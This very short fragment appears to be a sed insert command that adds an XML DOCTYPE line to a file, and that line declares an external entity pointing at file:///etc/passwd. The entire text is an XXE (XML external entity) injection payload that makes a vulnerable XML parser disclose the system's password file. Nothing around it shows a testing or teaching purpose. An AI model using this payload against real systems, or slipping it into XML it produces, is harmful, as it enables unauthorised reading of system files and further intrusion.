2i\
<!DOCTYPE criteria [<!ENTITY a SYSTEM "file:///etc/passwd">]>
